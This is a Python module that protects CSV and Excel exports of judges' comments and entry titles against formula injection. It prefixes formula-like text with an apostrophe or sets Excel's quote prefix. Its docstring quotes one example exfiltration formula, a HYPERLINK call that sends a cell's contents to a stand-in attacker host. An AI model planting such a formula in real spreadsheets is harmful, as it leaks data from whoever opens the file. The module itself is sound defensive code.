"""Text written into spreadsheets and CSV files stays text (no formula injection).

A judge's comment ``=HYPERLINK("http://evil.example/?leak="&C2,"Lihat bukti")``, an entry
title or a reason written as it was typed would run as a formula when the organiser opens the
export in Excel or LibreOffice. Every exporter writes its cells through this module:

- CSV: text that begins with ``=``, ``+``, ``-``, ``@``, a tab or a carriage return gets a
  leading apostrophe (``'=HYPERLINK(...)``), as OWASP recommends; spreadsheet programs then
  show it as text. Numbers (``-1,5``, ``+3``) are left alone: they are not formulas. Our own
  CSV reader (:mod:`sayembara.ranking.csvinput`) removes the apostrophe again, so a results
  bundle recomputes to the same text.
- xlsx: such text is stored as a string cell with Excel's "quote prefix" (what typing
  ``'=...`` in Excel does), never as a formula; the text itself is unchanged.

Pure Python (openpyxl is imported only when a workbook is written).
"""

from __future__ import annotations

import re
from collections.abc import Iterable
from typing import Any

#: First characters that make a spreadsheet program read a cell as a formula.
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
_NUMBER = re.compile(r"^[+-]?(\d+([.,]\d*)?|[.,]\d+)([eE][+-]?\d+)?$")


def is_formula_like(value: Any) -> bool:
    """Text a spreadsheet program would run or reinterpret (not a plain number)."""
    return (isinstance(value, str) and value.startswith(FORMULA_STARTS)
            and not _NUMBER.match(value))


def csv_cell(value: Any) -> str:
    """One CSV cell: ``""`` for None, formula-like text behind an apostrophe."""
    if value is None:
        return ""
    text = value if isinstance(value, str) else str(value)
    return "'" + text if is_formula_like(text) else text


def read_csv_cell(text: str) -> str:
    """The text :func:`csv_cell` wrote (the apostrophe before a formula-like text removed)."""
    if text.startswith("'") and is_formula_like(text[1:]):
        return text[1:]
    return text


def xlsx_row(sheet: Any, values: Iterable[Any], *, font: Any = None) -> list[Any]:
    """Cells for ``sheet.append`` of a write-only openpyxl sheet: every text a string cell
    (formula-like text with the quote prefix), numbers and dates as they are."""
    from openpyxl.cell import WriteOnlyCell

    cells = []
    for value in values:
        cell = WriteOnlyCell(sheet, value=value)
        if isinstance(value, str):
            cell.data_type = "s"
            if is_formula_like(value):
                cell.quotePrefix = True
        if font is not None:
            cell.font = font
        cells.append(cell)
    return cells
